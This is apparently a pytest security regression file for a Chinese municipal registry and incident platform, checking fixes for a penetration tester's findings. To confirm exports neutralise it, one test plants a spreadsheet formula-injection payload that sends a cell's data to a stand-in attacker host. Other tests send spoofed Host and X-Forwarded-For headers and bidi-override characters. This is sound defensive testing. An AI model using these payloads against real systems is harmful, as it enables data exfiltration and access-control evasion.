"""What an outside tester tried first, as an attacker and as a careless client — each finding
with the behaviour it must have now."""

import io
import json

import pytest
from django.core.cache import cache
from django.test import Client
from openpyxl import load_workbook

from shanzhi.common.jurisdiction import scope_for
from shanzhi.common.models import AuditLog
from shanzhi.geo.models import Address
from shanzhi.incidents.models import Incident
from shanzhi.registry.models import Person
from shanzhi.registry.services.imports import registry_import

from .conftest import login
from .test_incident_loop import home_grid, report

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _clean_cache():
    cache.clear()
    yield
    cache.clear()


def _import(user, kind, text):
    return registry_import(actor=user, kind=kind, source=text.encode("utf-8"), filename=f"{kind}.csv")


# --------------------------------------------------------------------------- the registry as an oracle
def test_a_role_without_the_reveal_right_cannot_test_id_numbers_by_importing(cast):
    plate = scope_for(cast.dispatcher).filter(Address.objects.all()).first()
    person = scope_for(cast.dispatcher).filter(Person.objects.all()).first()
    result = _import(cast.dispatcher, "person", f"姓名,身份证号,门牌编码\n某人,{person.id_number},{plate.code}\n")
    assert result.created == 0 and "需要查看个人信息的权限" in result.header_error and not result.errors


def test_an_import_naming_people_of_another_area_names_no_row_and_pauses_after_a_few(cast, huashi, settings):
    settings.FOREIGN_IMPORT_HITS_PER_DAY = 2
    worker = cast.grid_worker
    plate = scope_for(worker).filter(Address.objects.all()).first()
    foreign = Person.objects.filter(region__parent=huashi).first()
    text = f"姓名,身份证号,门牌编码\n甲,11010519491231002X,{plate.code}\n乙,{foreign.id_number},{plate.code}\n"
    result = _import(worker, "person", text)
    assert result.created == 0 and "其他辖区" in result.header_error and not result.errors
    assert foreign.id_number not in json.dumps([e.__dict__ for e in result.errors], ensure_ascii=False)
    refused = AuditLog.objects.filter(action="import", actor=worker, note="导入未通过").latest("id")
    assert refused.after["registered_elsewhere"] == 1
    assert not Person.objects.filter(name="甲").exists()  # the whole file, not just the row
    _import(worker, "person", text)
    paused = _import(worker, "person", f"姓名,身份证号,门牌编码\n丙,11010519491231002X,{plate.code}\n")
    assert "已暂停" in paused.header_error


def test_an_owner_by_id_number_needs_the_reveal_right(cast):
    plate = scope_for(cast.dispatcher).filter(Address.objects.all()).first()
    person = scope_for(cast.dispatcher).filter(Person.objects.all()).first()
    result = _import(cast.dispatcher, "house", f"房屋编码,门牌编码,产权人身份证号\nFW-O-1,{plate.code},{person.id_number}\n")
    assert result.created == 0 and "需要查看个人信息的权限" in result.errors[0].message


def test_the_birth_year_is_shown_never_an_age_that_ticks_on_the_birthday(cast):
    person = scope_for(cast.town_leader).filter(Person.objects.all()).first()
    html = login(cast.town_leader).get(f"/registry/person/{person.pk}/").content.decode()
    assert str(person.birth_year) in html and "岁" not in html


# --------------------------------------------------------------------------- characters that break things
@pytest.mark.parametrize("bad", ["张\x01丽", "a\x1bb", "名\u202e字", "x\x7fy"])
def test_control_characters_and_bidi_overrides_are_refused_everywhere(cast, bad):
    grid = home_grid(cast)
    before = Incident.objects.count()
    client = login(cast.informant)
    assert client.post("/incidents/new/", {"description": bad, "lon": grid.center_lon, "lat": grid.center_lat}
                       ).status_code == 400
    for content_type in ("application/json", "text/plain", "application/octet-stream", ""):
        resp = client.post("/api/v1/incidents", json.dumps({"description": bad, "address_text": "x"}),
                           content_type=content_type)
        assert resp.status_code in (400, 422), content_type
    raw = client.post("/api/v1/incidents", b'{"description":"x' + bad.encode() + b'","address_text":"y"}',
                      content_type="application/x-json")
    assert raw.status_code in (400, 422)
    assert Incident.objects.count() == before


def test_exports_survive_odd_data_and_never_carry_a_live_formula(cast):
    person = scope_for(cast.dispatcher).filter(Person.objects.all()).first()
    Person.objects.filter(pk=person.pk).update(name='=HYPERLINK("http://evil.example/?"&B2,"张东")\x01')
    resp = login(cast.dispatcher).get("/registry/export/person.xlsx")
    assert resp.status_code == 200
    sheet = load_workbook(io.BytesIO(resp.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'=") for c in cells)


def test_the_public_xml_feed_parses_whatever_a_description_holds(cast):
    from xml.etree import ElementTree

    from shanzhi.incidents.services import loop

    incident = report(cast, subclass_code="0801", description="井盖缺失")
    loop.incident_register(actor=cast.dispatcher, incident_id=incident.pk)
    Incident.objects.filter(pk=incident.pk).update(description="井盖\x01缺失\x0b")
    ElementTree.fromstring(Client().get("/open311/v2/requests.xml").content)


# --------------------------------------------------------------------------- no server errors
def test_odd_values_that_once_caused_server_errors_are_specific_errors(cast):
    public = Client()
    for query in ({"start_date": "0001-01-01"}, {"start_date": "9999-12-31T23:59:59-14:00"}, {"end_date": "0001-01-01"}):
        assert public.get("/open311/v2/requests.json", query).status_code == 400, query
    leader = login(cast.dispatcher)
    for since in ("0001-01-01", "9999-12-31T23:59:59-14:00"):
        assert leader.get("/api/v1/incidents", {"since": since}).status_code in (400, 422)
    assert leader.get("/incidents/", {"grid": "²"}).status_code == 200
    for grid in ("²", "99999999999999999999999", "abc"):
        resp = leader.get("/registry/export/person.xlsx", {"grid": grid})
        assert resp.status_code == 400 and "网格编号无效" in resp.content.decode(), grid


def test_patrol_points_from_outside_the_round_and_bad_items_are_refused(cast):
    from django.core.exceptions import ValidationError

    from shanzhi.incidents.services import patrols

    patrol = patrols.patrol_start(actor=cast.grid_worker, grid=home_grid(cast).pk)
    for t in ("inf", "1e400", "1e300", 1, "nan"):
        with pytest.raises(ValidationError):
            patrols.patrol_track(actor=cast.grid_worker, round_id=patrol.pk, points=[{"lon": 120.3, "lat": 31.8, "t": t}])
    client = login(cast.grid_worker)
    for item in ("abc", "1.5", "99999999999999999999"):
        resp = client.post(f"/incidents/patrols/{patrol.pk}/", {"item": item, "ok": "1"})
        assert resp.status_code == 400 and "不属于本网格" in resp.content.decode(), item


@pytest.mark.parametrize("column,value", [("面积", "1e400"), ("面积", "NaN"), ("层数", "99999999999999999999999")])
def test_numbers_a_column_cannot_hold_are_row_errors(cast, column, value):
    plate = scope_for(cast.grid_worker).filter(Address.objects.all()).first()
    result = _import(cast.grid_worker, "house", f"房屋编码,门牌编码,{column}\nFW-N-1,{plate.code},{value}\n")
    assert result.created == 0 and result.errors and result.errors[0].column == column


def test_overlong_notes_are_refused(cast):
    incident = report(cast)
    resp = login(cast.dispatcher).post(f"/incidents/{incident.pk}/act/void/", {"note": "长" * 5000,
                                                                                "version": incident.version})
    assert resp.status_code == 400 and "500" in resp.content.decode()


def test_a_tiny_extension_is_refused(cast):
    from django.core.exceptions import ValidationError

    from shanzhi.incidents.services import loop

    with pytest.raises(ValidationError):
        loop._extension_amount("1e-9", "working_days")


# --------------------------------------------------------------------------- clients that do odd things
def test_long_idempotency_keys_are_not_cut_into_each_other(cast):
    from shanzhi.api.models import ApiKey

    key = ApiKey.issue("重试客户端")[1]
    grid = home_grid(cast)
    body = {"api_key": key, "service_code": "0802", "lat": grid.center_lat, "long": grid.center_lon, "description": "路灯"}
    a = Client().post("/open311/v2/requests.json", body, HTTP_IDEMPOTENCY_KEY="k" * 100)
    b = Client().post("/open311/v2/requests.json", body, HTTP_IDEMPOTENCY_KEY="k" * 100 + "ZZZ")
    assert a.status_code == b.status_code == 201
    assert a.json()[0]["service_request_id"] != b.json()[0]["service_request_id"]


def test_behind_a_trusted_proxy_limits_apply_per_real_client(cast, settings):
    from shanzhi.accounts.models import LoginThrottle

    settings.TRUSTED_PROXIES = frozenset({"10.0.0.1"})
    stranger = Client(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.9")
    for _ in range(settings.LOCKOUT_THRESHOLD):
        stranger.post("/login/", {"username": "dispatcher", "password": "nope"})
    assert LoginThrottle.objects.filter(ip="203.0.113.9", locked_until__isnull=False).exists()
    owner = Client(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7")
    assert owner.post("/login/", {"username": "dispatcher", "password": "Shanzhi@2026"}).status_code == 302
    # An untrusted peer's X-Forwarded-For is ignored: it cannot pick another address to hide behind.
    settings.TRUSTED_PROXIES = frozenset()
    spoof = Client(REMOTE_ADDR="192.0.2.1", HTTP_X_FORWARDED_FOR="198.51.100.7")
    spoof.post("/login/", {"username": "dispatcher", "password": "nope"})
    assert LoginThrottle.objects.filter(ip="192.0.2.1").exists()


def test_links_the_platform_builds_never_come_from_the_host_header(cast, settings):
    settings.PUBLIC_BASE_URL = "https://shanzhi.jiangyin.gov.cn"
    data = Client(HTTP_HOST="evil.example").get("/open311/v2/discovery.json")
    assert "evil.example" not in data.content.decode() or data.status_code == 400
    from shanzhi.config import settings as config

    assert "*" not in config.ALLOWED_HOSTS or config.DEMO


def test_pages_with_personal_data_are_never_cached(cast):
    resp = login(cast.grid_worker).get("/registry/")
    assert "no-store" in resp["Cache-Control"]
    assert "no-store" in login(cast.dispatcher).get("/registry/export/person.xlsx")["Cache-Control"]


def test_the_api_docs_load_their_own_files_not_a_cdn(cast):
    html = login(cast.dispatcher).get("/api/v1/docs").content.decode()
    assert "/static/ninja/swagger-ui-bundle.js" in html and "cdn" not in html.lower()


# --------------------------------------------------------------------------- a new user
def test_errors_are_in_chinese_with_a_way_back(cast):
    resp = login(cast.grid_worker).get("/center/appraisal/")
    assert resp.status_code == 403 and "无权访问" in resp.content.decode() and "回到工作台" in resp.content.decode()
    missing = Client().get("/rate/not-a-token/")
    assert missing.status_code == 404 and "没有找到这个页面" in missing.content.decode()


def test_a_grid_worker_is_not_offered_what_they_cannot_open(cast):
    html = login(cast.grid_worker).get("/incidents/").content.decode()
    assert "督办台" not in html and "月度考核" not in html


def test_a_departments_map_and_its_grid_cards_agree(cast):
    client = login(cast.dept_handler)
    grids = client.get("/geo/grids.geojson?level=2").json()["features"]
    assert grids
    assert client.get(f"/geo/grids/{grids[0]['properties']['id']}/card/").status_code == 200


def test_a_resident_lands_in_the_online_hall(cast):
    resp = login(cast.citizen).get("/")
    assert resp.status_code == 302 and resp["Location"] == "/window/hall/"


def test_readiness_tells_when_nothing_delivers_messages(cast):
    import datetime as dt

    from django.utils import timezone

    from shanzhi.notify.models import Outbox

    Outbox.objects.create(channel="inapp", user=cast.dispatcher, title="t", body="b",
                          next_attempt_at=timezone.now() - dt.timedelta(hours=1))
    data = Client().get("/readyz").json()
    assert data["delivery"].startswith("stalled") and Client().get("/readyz").status_code == 503


def test_the_audit_page_reads_as_text_not_python(cast):
    report(cast)
    html = login(cast.auditor).get("/system/audit/").content.decode()
    assert "{&#x27;" not in html and "True" not in html
